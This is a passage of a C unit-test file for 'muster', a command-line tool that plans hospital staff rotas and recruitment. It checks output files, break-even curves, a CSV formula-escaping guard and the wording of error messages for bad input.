				at += 1 + digits;
				assert_true(*at == (k < 5 ? ',' : '\n'));
				at++;
			}
			line = at - 1;
			n_rows++;
		}
		assert_int_equal(n_rows, 7);
	}
	free(text);
	/* recruit over the two weeks with the pathway: the board sentence
	 * counts the bed-days the posts free, curve.csv each point's */
	r = tu_run("recruit", "icf", "icfs", "--lp", "--posts", "0:40:40", "--out", "icf-rec",
	           "--db", "f.db", NULL);
	assert_int_equal(r.status, 0);
	assert_true(
	    strstr(r.out, " no bed-days of patients fit to leave and waiting in a hospital bed") ||
	    strstr(r.out, " a year of patients fit to leave and waiting in a hospital bed"));
	tu_result_free(&r);
	tu_path(path, sizeof(path), "icf-rec/curve.csv");
	text = tu_slurp(path);
	assert_true(strncmp(text,
	                    "posts,status,yearly_cost,posts_cost,spend,filled_hours,"
	                    "red_flags,bed_days\n0,optimal,",
	                    84) == 0);
	free(text);
}

/* Issue 18 point 7: the example's two weeks, `muster example DIR` and
 * `muster example DIR --summer`, are one system that `recruit` takes as a
 * pair; the summer week needs less. End to end in plan mode with a curve:
 * what posts.csv chooses, the headline and the board sentence say, each
 * checked against posts.csv and curve.csv (no figure pinned that is not
 * derived from them). */
static void test_cli_recruit_on_the_example_weeks(void **state)
{
	struct mu_scenario *winter, *summer;
	struct tu_result r;
	char path[400], cell[64], want[300];
	const char *sentence;
	double best, none, post_cost = 0, prev = INFINITY, x;
	size_t i, k;
	long break_even = -1, pt;
	(void)state;
	r = tu_run("example", "ics", NULL);
	assert_int_equal(r.status, 0);
	/* the 14 scenario files and history.csv (DESIGN.md §3e: the forecast's) */
	assert_non_null(strstr(r.out, "wrote 15 files of the example ICS to ics"));
	tu_result_free(&r);
	r = tu_run("check", "ics", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, ", 50370 history.csv rows"));
	assert_null(strstr(r.err, "warning"));
	tu_result_free(&r);
	r = tu_run("example", "ics-summer", "--summer", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "wrote 14 files of the example ICS (its summer week)"));
	tu_result_free(&r);
	r = tu_run("example", "ics-summer", "--summer", NULL); /* never overwrites */
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
	r = tu_run("example", "ics-x", "--winter", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "unknown option '--winter'"));
	tu_result_free(&r);
	r = tu_run("check", "ics-summer", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "ics-summer: ok: 7 partners"));
	assert_non_null(strstr(r.out, ", 5 recruits.csv rows"));
	tu_result_free(&r);

	/* the same shifts on other dates; less demand on every row, never more */
	winter = scenario_in("ics");
	summer = scenario_in("ics-summer");
	assert_int_equal(winter->n_shifts, summer->n_shifts);
	for (i = 0; i < winter->n_shifts; i++) {
		assert_string_equal(winter->shifts[i].id, summer->shifts[i].id);
		assert_true(winter->shifts[i].day - summer->shifts[i].day == 147); /* Mondays */
		assert_int_equal(winter->shifts[i].start_min, summer->shifts[i].start_min);
	}
	assert_int_equal(winter->n_demand, summer->n_demand);
	for (i = 0; i < winter->n_demand; i++) {
		assert_true(summer->demand[i].required <= winter->demand[i].required);
		assert_true(summer->demand[i].minimum <= summer->demand[i].required);
	}
	assert_true(total_required(summer) < 0.9 * total_required(winter));
	assert_int_equal(winter->n_recruits, 5);

	r = tu_run("recruit", "ics", "ics-summer", "--lp", "--posts", "0:60:10", "--out", "rec",
	           "--db", "rec.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "recruit: 2 weeks, plan: optimal"));
	best = weight_after(r.out, "plan: optimal, yearly objective ");
	none = weight_after(r.out, "without new posts: yearly objective ");
	sentence =
	    strstr(r.out, " a year and lower the yearly objective (spend plus penalty weights)");
	assert_non_null(sentence);
	while (sentence > r.out && sentence[-1] != '\n')
		sentence--;

	/* posts.csv: band 5 nurses at both acute trusts, every row within its
	 * max_posts, each row with posts named in the sentence and no other */
	tu_path(path, sizeof(path), "rec/posts.csv");
	for (k = 0; k < winter->n_recruits; k++) {
		const struct mu_recruit *rec = &winter->recruits[k];
		char prefix[64];
		double posts;
		snprintf(prefix, sizeof(prefix), "%s,%s,", winter->partners[rec->partner].id,
		         winter->roles[rec->role].id);
		posts = csv_value(path, prefix, 3);
		assert_true(posts >= 0 && posts <= (double)rec->max_posts + 1e-6);
		x = csv_value(path, prefix, 5);
		assert_true(fabs(x - posts * rec->annual_cost) < 0.01);
		post_cost += x;
		if (posts > 1e-6) {
			snprintf(want, sizeof(want), "%.2f %s post%s at %s", posts,
			         winter->roles[rec->role].name, posts > 1 + 1e-9 ? "s" : "",
			         winter->partners[rec->partner].name);
			if (!strstr(sentence, want))
				fail_msg("'%s' not in '%.400s'", want, sentence);
		} else {
			snprintf(want, sizeof(want), " at %s", winter->partners[rec->partner].name);
			assert_null(strstr(sentence, want));
		}
		if (strcmp(winter->roles[rec->role].id, "rn_b5") == 0 &&
		    strncmp(winter->partners[rec->partner].id, "acute_", 6) == 0)
			assert_true(posts >= 1);
	}
	/* the sentence's pay a year (money) and fall in the yearly objective
	 * (weights) are posts.csv's and the headline's (to the whole number it
	 * rounds to) */
	assert_true(fabs(money_after(sentence, " cost ") - post_cost) <= 0.5 + 1e-6);
	assert_true(fabs(weight_after(sentence, " by ") - (none - best)) <= 0.5 + 0.01);

	/* curve.csv: recruiting nobody is its point 0; no point beats the best
	 * posts (the total free); the break-even the first point after which
	 * the next is not lower */
	tu_path(path, sizeof(path), "rec/curve.csv");
	assert_true(fabs(csv_value(path, "0,optimal,", 3) - none) < 0.01);
	for (pt = 0; pt <= 60; pt += 10) {
		char prefix[32];
		snprintf(prefix, sizeof(prefix), "%ld,optimal,", pt);
		x = csv_value(path, prefix, 3);
		assert_true(x >= best - 0.01);
		if (break_even < 0 && pt > 0 && !(x < prev - 0.5))
			break_even = pt - 10;
		prev = x;
	}
	assert_true(break_even > 0 && break_even < 60); /* the curve has a knee */
	snprintf(want, sizeof(want), "Break-even at %ld posts", break_even);
	assert_non_null(strstr(r.out, want));
	tu_path(path, sizeof(path), "rec/report.html");
	{
		char *html = tu_slurp(path);
		snprintf(want, sizeof(want), "break-even: %ld posts", break_even);
		assert_non_null(strstr(html, want));
		/* right of the chart's middle its label runs leftwards, within it */
		if (break_even > 30)
			assert_non_null(
			    strstr(html, "text-anchor=\"end\" fill=\"#b34700\">break-even"));
		free(html);
	}
	tu_path(path, sizeof(path), "rec/week2/summary.csv");
	csv_cell(path, "SYSTEM,", 2, cell, sizeof(cell));
	assert_true(cell[0] != '\0');
	tu_result_free(&r);
	mu_scenario_free(winter);
	mu_scenario_free(summer);
}

/* Issue 24, 9a: a plan muster wrote keeps an id that starts with '-' as
 * '-bw001 (against formula injection); --keep reads its own guard back. */
static void test_cli_keep_reads_back_the_formula_guard(void **state)
{
	struct tu_result r;
	char plan[400], *text;
	(void)state;
	edited_example("dash", "sed -i 's/\\bbw001\\b/-bw001/g' *.csv");
	r = tu_run("solve", "dash", "--lp", "--db", "g.db", "--out", "dash-pub", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	tu_path(plan, sizeof(plan), "dash-pub/plan.csv");
	text = tu_slurp(plan);
	assert_non_null(strstr(text, ",'-bw001,"));
	free(text);
	r = tu_run("solve", "dash", "--lp", "--db", "g.db", "--keep", "dash-pub/plan.csv", NULL);
	if (r.status != 0)
		fail_msg("%s", r.err);
	assert_non_null(strstr(r.out, ", 0 changes to the kept plan\n"));
	tu_result_free(&r);
}

/* Issue 24, 9c: a folder as --keep is named a folder, with what to give. */
static void test_cli_keep_names_a_folder(void **state)
{
	struct tu_result r;
	(void)state;
	edited_example("kf", "mkdir -p ../kf-out");
	r = tu_run("solve", "kf", "--lp", "--db", "kf.db", "--keep", "kf-out/", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "kf-out/: a folder, not a plan: give --keep the plan.csv in "
	                              "it (kf-out/plan.csv), or run:ID for a stored run"));
	assert_null(strstr(r.err, "too large"));
	tu_result_free(&r);
}

/* Issue 24, 9f: a text file as --db is bad input (exit 2), said to be no
 * muster database, and left as it was. */
static void test_cli_a_text_file_as_db_is_bad_input(void **state)
{
	static const char text[] = "hello, not a database\n";
	static const char *const says = "tf.txt: not a muster database (not an SQLite file at "
	                                "all), and nothing in it was changed: give a database "
	                                "muster made (or, to start one, a new file's name)";
	struct tu_result r;
	char path[400], *back;
	(void)state;
	tu_path(path, sizeof(path), "tf.txt");
	tu_write(path, text, sizeof(text) - 1);
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "tf.txt", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, says));
	tu_result_free(&r);
	r = tu_run("runs", "--db", "tf.txt", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, says));
	tu_result_free(&r);
	r = tu_run("merge", "--db", "tf-merged.db", "tf.txt", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, says));
	tu_result_free(&r);
	back = tu_slurp(path);
	assert_string_equal(back, text);
	free(back);
}

/* Issue 24, 9g: an option of solve's that recruit does not take is a usage
 * error naming it (exit 2), and its value is never read as a WEEK. */
static void test_cli_recruit_names_an_option_it_does_not_take(void **state)
{
	static const char *const options[][2] = {{"--keep", "x"},
	                                         {"--write-mps-natural", "x"},
	                                         {"--now", "2026-12-02T12:00"},
	                                         {"--keep=x", NULL}};
	size_t k;
	(void)state;
	for (k = 0; k < sizeof(options) / sizeof(options[0]); k++) {
		struct tu_result r = tu_run("recruit", getenv("MUSTER_EXAMPLE_DIR"), options[k][0],
		                            options[k][1], NULL);
		char says[128];
		snprintf(says, sizeof(says),
		         "muster recruit: unknown option '%.*s' (recruit takes ",
		         (int)strcspn(options[k][0], "="), options[k][0]);
		assert_int_equal(r.status, 2);
		if (!strstr(r.err, says))
			fail_msg("%s %s: %s", options[k][0], options[k][1] ? options[k][1] : "",
			         r.err);
		assert_null(strstr(r.err, "needs a value"));
		tu_result_free(&r);
	}
}

/* Issue 24, 9b: a plan-mode plan kept in rota mode is refused at its first
 * fractional staff cell (exit 2), never solved into fractional staff. */
static void test_cli_keep_refuses_a_plan_of_fractions_as_a_rota(void **state)
{
	struct tu_result r;
	char plan[400], *text, want[64];
	const char *line;
	unsigned long n = 1;
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "fr.db", "--out",
	           "fr-pub", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	/* the first staff row of a fraction: its line */
	tu_path(plan, sizeof(plan), "fr-pub/plan.csv");
	text = tu_slurp(plan);
	for (line = text; line && *line;
	     line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
		const char *c = line;
		int field;
		bool is_staff = strncmp(line, "own,", 4) == 0 || strncmp(line, "lend,", 5) == 0 ||
		                strncmp(line, "bank,", 5) == 0 || strncmp(line, "agency,", 7) == 0;
		for (field = 1; field < 9 && c; field++)
			c = strchr(c, ',') ? strchr(c, ',') + 1 : NULL;
		if (is_staff && c && strcspn(c, ".") < strcspn(c, ","))
			break;
		n++;
	}
	assert_non_null(line);
	free(text);
	snprintf(want, sizeof(want), "fr-pub/plan.csv:%lu:9: staff '", n);
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--db", "fr.db", "--keep",
	           "fr-pub/plan.csv", "--now", "2026-12-02T12:00", NULL);
	assert_int_equal(r.status, 2);
	if (!strstr(r.err, want))
		fail_msg("want %s in: %s", want, r.err);
	assert_non_null(strstr(r.err, "' is a fraction, as in a plan-mode (--lp) plan: a rota "
	                              "keeps whole staff only, so muster cannot keep this plan as "
	                              "a rota; re-plan in plan mode (add --lp), or keep a plan "
	                              "solved without --lp"));
	assert_null(strstr(r.out, "optimal"));
	tu_result_free(&r);
}

/* Issue 24, 9e: shards of one sweep run with different options (a plain
 * shard and a --keep --now shard) are refused by merge, naming the option
 * and its two values (exit 2), never joined into one sweep. */
static void test_cli_merge_refuses_shards_of_different_options(void **state)
{
	const char *ex = getenv("MUSTER_EXAMPLE_DIR"), *vary = "agency_cap.rn_b5=25:40:15";
	struct tu_result r;
	char path[400];
	(void)state;
	r = tu_run("solve", ex, "--lp", "--db", "mo.db", "--out", "mo-pub", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	r = tu_run("sweep", ex, "--lp", "--vary", vary, "--shard", "1/2", "--db", "mo1.db", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	r = tu_run("sweep", ex, "--lp", "--vary", vary, "--shard", "2/2", "--db", "mo2.db",
	           "--keep", "mo-pub/plan.csv", "--now", "2026-12-02T12:00", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	r = tu_run("merge", "--db", "mo-m.db", "mo1.db", "mo2.db", NULL);
	assert_int_equal(r.status, 2);
	if (!strstr(r.err, "the shards of the sweep '--vary agency_cap.rn_b5=25:40:15' were run "
	                   "with different options: --keep none in mo1.db, but --keep a plan of "))
		fail_msg("%s", r.err);
	assert_non_null(strstr(r.err, " in mo2.db; run every shard of a sweep with the same "
	                              "options: nothing merged"));
	tu_result_free(&r);
	tu_path(path, sizeof(path), "mo-m.db");
	assert_int_not_equal(access(path, F_OK), 0);
}

/* Issue 24, 9d: a kept past that min_rest_hours, raised since, no longer
 * allows is refused at the kept plan.csv's lines (exit 2), not blamed on
 * the scenario alone. */
static void test_cli_keep_names_the_rows_of_a_past_that_cannot_rest(void **state)
{
	struct tu_result r;
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "rs.db", "--out",
	           "rs-pub", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	edited_example("rs", "sed -i 's/^min_rest_hours,11/min_rest_hours,20/' settings.csv");
	r = tu_run("solve", "rs", "--lp", "--db", "rs.db", "--keep", "rs-pub/plan.csv", "--now",
	           "2026-12-02T12:00", NULL);
	assert_int_equal(r.status, 2);
	if (!strstr(r.err, "rs-pub/plan.csv:540: the kept past cannot hold: bank worker bw001 "
	                   "works mon-e and tue-e before --now (lines 540 and 541), and as the "
	                   "scenario now reads they leave less than min_rest_hours between them "
	                   "(min_rest_hours 20 in settings.csv, the shifts' times in "
	                   "shifts.csv); put them back as they were, or give an earlier --now"))
		fail_msg("%s", r.err);
	tu_result_free(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_cli_help_for_every_command),
	    cmocka_unit_test(test_cli_help_examples_run_on_the_example),
	    cmocka_unit_test(test_cli_sweep_help_names_every_sweepable_setting),
	    cmocka_unit_test(test_cli_help_says_the_default_work_limit),
	    cmocka_unit_test(test_cli_bad_usage_exits_2),
	    cmocka_unit_test(test_cli_check_the_example_and_a_broken_copy),
	    cmocka_unit_test(test_cli_warnings_keep_the_exit_status),
	    cmocka_unit_test(test_cli_demo_needs_no_files),
	    cmocka_unit_test(test_cli_runs_and_show),
	    cmocka_unit_test(test_cli_solve_plan_mode_matches_clp),
	    cmocka_unit_test(test_cli_solve_rota_mode_brackets_cbc),
	    cmocka_unit_test(test_cli_compare_system_and_silo),
	    cmocka_unit_test(test_cli_compare_bidding_with_supply),
	    cmocka_unit_test(test_cli_compare_bidding_hand_solved),
	    cmocka_unit_test(test_cli_keep_replans_the_published_rota),
	    cmocka_unit_test(test_cli_keep_writes_calls_and_bookings),
	    cmocka_unit_test(test_cli_sweep_points_match_single_solves),
	    cmocka_unit_test(test_cli_sweep_table_shows_the_gap),
	    cmocka_unit_test(test_cli_sweep_refuses_what_it_cannot_vary),
	    cmocka_unit_test(test_cli_sweep_without_supply_is_as_before),
	    cmocka_unit_test(test_cli_sweep_bank_cap_shows_rate_and_extra_staff),
	    cmocka_unit_test(test_cli_sweep_refuses_a_cap_that_does_nothing),
	    cmocka_unit_test(test_cli_time_limit_marks_the_rota_not_proven),
	    cmocka_unit_test(test_cli_interrupted_solve_keeps_the_best_rota),
	    cmocka_unit_test(test_cli_second_ctrl_c_records_nothing),
	    cmocka_unit_test(test_cli_failed_solve_records_nothing),
	    cmocka_unit_test(test_cli_no_csv_cell_runs_as_a_formula),
	    cmocka_unit_test(test_cli_out_never_writes_through_a_link),
	    cmocka_unit_test(test_cli_a_crash_mid_write_leaves_no_half_file),
	    cmocka_unit_test(test_cli_a_failed_write_says_why_and_leaves_nothing),
	    cmocka_unit_test(test_cli_out_folder_refused_before_the_solve),
	    cmocka_unit_test(test_cli_out_under_an_unwritable_parent_says_permission_denied),
	    cmocka_unit_test(test_cli_control_characters_are_escaped_on_the_terminal),
	    cmocka_unit_test(test_cli_store_failure_is_never_silent),
	    cmocka_unit_test(test_cli_db_is_checked_before_the_solve),
	    cmocka_unit_test(test_cli_sweep_says_what_was_recorded_when_outputs_fail),
	    cmocka_unit_test(test_cli_runs_and_show_work_on_a_read_only_database),
	    cmocka_unit_test(test_cli_another_programs_database_is_refused),
	    cmocka_unit_test(test_cli_ctrl_c_during_the_database_write),
	    cmocka_unit_test(test_cli_guarantee_protects_every_partner),
	    cmocka_unit_test(test_cli_guaranteed_rota_at_its_bound_says_optimal),
	    cmocka_unit_test(test_cli_check_names_what_is_not_a_regular_file),
	    cmocka_unit_test(test_cli_refuses_a_model_too_large_before_building_it),
	    cmocka_unit_test(test_cli_shares_add_up_and_settle),
	    cmocka_unit_test(test_cli_sharded_sweep_merges_into_one_process_sweep),
	    cmocka_unit_test(test_cli_sharded_shares_merge_into_one_process_shares),
	    cmocka_unit_test(test_cli_recruit_posts_curve_and_sentence),
	    cmocka_unit_test(test_cli_recruit_refuses_with_the_reason),
	    cmocka_unit_test(test_cli_recruit_on_the_example_weeks),
	    cmocka_unit_test(test_cli_example_with_its_pathway),
	    cmocka_unit_test(test_cli_keep_reads_back_the_formula_guard),
	    cmocka_unit_test(test_cli_keep_names_a_folder),
	    cmocka_unit_test(test_cli_a_text_file_as_db_is_bad_input),
	    cmocka_unit_test(test_cli_recruit_names_an_option_it_does_not_take),
	    cmocka_unit_test(test_cli_keep_refuses_a_plan_of_fractions_as_a_rota),
	    cmocka_unit_test(test_cli_merge_refuses_shards_of_different_options),
	    cmocka_unit_test(test_cli_keep_names_the_rows_of_a_past_that_cannot_rest),
	    cmocka_unit_test(test_cli_report_names_the_recorded_run),
	};
	return tu_run_tests(tests, NULL, NULL);
}
